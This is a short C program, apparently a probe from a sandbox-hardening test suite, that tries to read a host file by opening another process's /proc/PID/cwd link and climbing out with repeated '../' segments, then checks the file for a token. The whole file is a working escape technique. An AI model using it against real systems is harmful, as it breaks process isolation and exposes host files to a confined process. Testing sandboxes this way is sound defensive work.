// wall: pid1-dumpable  overlaps: landlock, pid-namespace  source: RT-22
// Reaches the host's tree through /proc/PID/cwd.
// Arguments: pid, path of a file of the host, token.
#include "attack.h"

int main(int argc, char** argv) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/cwd", Number(argc, argv, 1));
  int fd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (fd < 0) return Stopped("open the cwd link");
  char up[4096] = "";
  for (int i = 0; i < 40; ++i) strcat(up, "../");
  strncat(up, Argument(argc, argv, 2) + 1, sizeof up - strlen(up) - 1);
  char buffer[4096];
  if (ReadWhole(fd, up, buffer, sizeof buffer) < 0) return Stopped("open from there");
  errno = ENODATA;
  return strstr(buffer, Argument(argc, argv, 3)) ? Succeeded("read") : Stopped("another file");
}
